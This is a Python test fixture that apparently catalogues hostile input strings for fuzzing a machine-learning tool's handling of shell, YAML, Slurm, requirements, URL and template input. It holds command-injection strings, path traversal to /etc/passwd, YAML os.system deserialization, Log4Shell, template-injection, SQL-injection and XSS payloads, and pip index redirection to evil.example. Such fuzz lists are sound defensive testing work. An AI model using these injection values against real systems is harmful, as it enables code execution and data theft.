"""Hostile text: what some shell, YAML, SQL, HTML or Slurm would take for more than text."""

_TOUCH = "touch pwned"
GROUPS = {
    "shell": [
        f"$({_TOUCH})", f"`{_TOUCH}`", f"; {_TOUCH}", f"x; {_TOUCH}; y", f"x && {_TOUCH}", f"|| {_TOUCH}", f"x | {_TOUCH} #",
        f"& {_TOUCH} &", f"'; {_TOUCH}; '", f"\"; {_TOUCH}; \"", f"'$({_TOUCH})'", f"\"$({_TOUCH})\"", f"'\"`{_TOUCH}`\"'",
        f"\\'; {_TOUCH}; \\'", "x > pwned", "x 2>pwned", "< /etc/passwd", f"<({_TOUCH})", "<<EOF", f"{{ {_TOUCH}; }}",
        f"({_TOUCH})", "$((1+1))", "touch${IFS}pwned", "${HOME:=pwned}", "$HOME", "$0", "$$", "$@", "!!", "!$", "~", "~daemon/x",
        "~no-such/x", "PATH=.:$PATH", f"() {{ :; }}; {_TOUCH}", "x # comment", "#!/bin/sh", "\\", "x\\", "a\\ b", "{1..9}", "a b",
        " leading", "trailing ", "exit 1",
    ],
    "quotes": ["'", "\"", "''", "\"\"", "it's", "a'b\"c", "'\"'\"'", "“x”", "\\'", "\\\""],
    "lines": [
        "\n", "\r\n", "\t", "a\nb", "a\rb", "a\tb", f"x\n{_TOUCH}\n", "x\n#SBATCH --wrap=pwned", "x\\\ny", "a\x0bb", "a\x0cb",
        "a\x1cb", "a\x85b", "a\u2028b", "a\u2029b", "x\nevalflow: all is well", "x\n---\ny: 1",
    ],
    "control characters": [
        "\0", "/etc/passwd\0.ckpt", "~\0/x", "\x07", "a\x7fb", "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x9b31m",
        "\x04", "x\b\b\b",
    ],
    "dashes": ["-", "--", "-x", "-rf /", "--help", "--output=pwned", f"-c '{_TOUCH}'", "---", "–x", "−x", "@/etc/passwd", "-1"],
    "paths": [
        ".", "..", "../", "../../pwned", "a/../../pwned", "..\\..\\pwned", "/", "//", "/..", "/etc/passwd", "//etc/passwd",
        "/dev/null", "/dev/zero", "/dev/stdin", "/proc/self/environ", "/tmp/pwned", "~/pwned", ".hidden", "...", "a//b", "a/..",
        "C:\\x", "file:///etc/passwd", "pwned", "inference.yaml/x", "model.onnx/..", "%2e%2e/%2e%2e/pwned", "..%2fpwned", ".. ",
        "data/runs", "env.json",
    ],
    "long": [
        300 * "x", 5000 * "x", 300 * "é", 300 * "../", 5000 * "/", 100 * "x" + "/" + 300 * "x", 5000 * "$", 2000 * "a-" + ".whl",
        1000 * "{", 5000 * " ", 5000 * "\n", 1500 * "😀", 256 * "x", 5000 * "9",
    ],
    "unicode": [
        "\u202egnp.exe", "a\u202eb\u202c", "\u2066x\u2069", "a\u200bb", "\ufeffx", "\ufffe", "\ufffd", "\ud800", "a\udfffb",
        "\udc80", "\ud83d\ude00", "e\u0301", "\u0301", "Z" + 50 * "\u0335", "раураl", "ａｂｃ", "／etc／passwd", "．．／x",
        "；x", "＄(x)",
        "ﬀ", "İ", "١٢٣", "𝟘/𝟚/𝟚", "\u00a0", "\u3000x", "👨\u200d👩\u200d👧", "\U0010ffff", "\ue000",
    ],
    "YAML": [
        "", "!!python/object/apply:os.system ['touch pwned']", "!!python/name:os.system", "!x y", "!!binary aGk=", "&a x", "*a",
        "<<", "null", "yes", "off", "true", "y", "1", "1.5", "1e5", "0x1F", "1_000", ".inf", ".nan", "2024-01-01", "01:30:00", "{}",
        "[]", "[a, b]", "{a: b}", "a: b", ": x", "- x", "? x", "| x", "% x", "...", "#x", "=", "key:", "]", "}", ",",
    ],
    "templates": [
        "%s%s%s%n", "%(name)s", "%", "%%", "%Y%m%d%H", "%Y%m%d%H; touch pwned", "../%Y%m%d%H", "%Y%m%d%H/../../x", "$(%Y%m%d%H)",
        "%Y%m%d%H/[!a]*", "%Y%m%d%H%n", "%Y%m%d%H/.%Z./x", "%Z/etc/%Y%m%d%H", "%Y%m%d%H/%9999999d", "%Y%m%d%H/**/**/**", "{0}",
        "{x}", "{0.__class__.__mro__}", "{output}", "{output", "{output!r}", "{output:\x1b[31m}", "{output.x\ny}", "{{output}}",
        "{python} {output} $(touch pwned)", "{output}; touch pwned", "{output} '", "${output}", "{forecaster} {output}", "{{7*7}}",
        "{% x %}", "${'touch pwned'.execute()}", "${new File('pwned').text = 'x'}", "${x}", "<%= x %>", "${jndi:ldap://x/a}",
        "\\g<0>", "<script>alert(1)</script>", "[x](javascript:alert(1))",
    ],
    "globs": ["*", "**", "?", "[!a]", "[z-a]", "[", "*.onnx", "/etc/*", "{a,b}*", "model.*"],
    "Slurm": [
        "#SBATCH --wrap=x", "normal --uid=0", "--uid=0", "normal\n#SBATCH --uid=0", "normal;x", "normal #x", "$SLURM_JOB_ID",
        "normal\t--x", "'normal'", "a=b", "x%A",
    ],
    "requirements": [
        "-r /etc/passwd", "-r/etc/passwd", "--index-url https://evil.example", "--extra-index-url=https://evil.example",
        "pkg @ file:///etc/passwd", "pkg @ ../x", "pkg @ -r/etc/passwd", "pkg @ --index-url=https://evil.example",
        "pkg; os.system('touch pwned')", "pkg; python_version<'3' #", "pkg --hash=sha256:00", "pkg\\", "https://evil.example/a\\",
        "pkg @ https://evil.example/a\\", "pkg # comment", "https://evil.example/${HOME}/a-1.0-py3-none-any.whl", "pkg @ ${HOME}",
        "pkg===$(touch pwned)", "pkg===--index-url", "pkg @ https://evil.example/x.whl --index-url https://evil.example",
        "git+ext::sh -c touch% pwned", "git+ssh://-oProxyCommand=touch/x", "git+https://example.org/o/r.git@$(touch pwned)",
        "git+https://example.org/o/r.git@--upload-pack=x", "-x.zip", "$(touch pwned).whl", "../../x-1.0-py3-none-any.whl",
    ],
    "URLs": [
        "https://", "https:///x", "http://x:y/", "https://[::1", "https://x:99999/", "javascript:alert(1)", "s3://bucket/x.ckpt",
        "file://localhost/etc/passwd", "https://example.org#/models/../../x/versions/1",
        "https://example.org#/models/%2e%2e%2fx/versions/1", "https://example.org#/experiments/1/runs/----",
        "https://example.org#/experiments/1/runs/a---", "https://example.org#/experiments/1/runs/abcd/artifacts/../../x.ckpt",
        f"https://huggingface.co/-x/r/resolve/{40 * '0'}/a.ckpt", f"https://huggingface.co/o/r/resolve/{40 * '0'}/../a.ckpt",
        f"https://huggingface.co/o/r/resolve/{40 * '0'}/$(x).ckpt", f"https://huggingface.co/o/r/resolve/{40 * '0'}/-a%0a.ckpt",
        "https://hush\\@evil.example/", "https://me:hush@example.org/x.ckpt", "https://hush@example.org/x.ckpt",
        "https://me:hu/sh@example.org/x.ckpt", "git+https://me:hush@example.org/o/r.git@main", "git+ssh://git:hush@example.org/o/r",
        "pkg @ https://hush@example.org/p-1.0-py3-none-any.whl", "s3://me:hush@bucket/x.zarr", "see https://me:hush@example.org",
    ],
    "regular expressions": ["(a+)+$", "^(.*)*$", "(?P<x>", ".*", "a{1000000}", 40 * "a" + "!", 40 * "a/" + "!"],
    "code": [
        "__import__('os').system('touch pwned')", "__class__", "'; DROP TABLE runs; --", "]]>", "{\"$ref\": \"x\"}", "forecaster",
        "inference_resources", "<range>", "<forecaster>", "[key]", "runs[0]", "a.b",
    ],
}  # fmt: skip
HOSTILE = list(dict.fromkeys(text for texts in GROUPS.values() for text in texts))


def short(text: str) -> str:
    """Return a text for a message."""
    return ascii(text if len(text) < 60 else f"{text[:50]}… ({len(text)})")
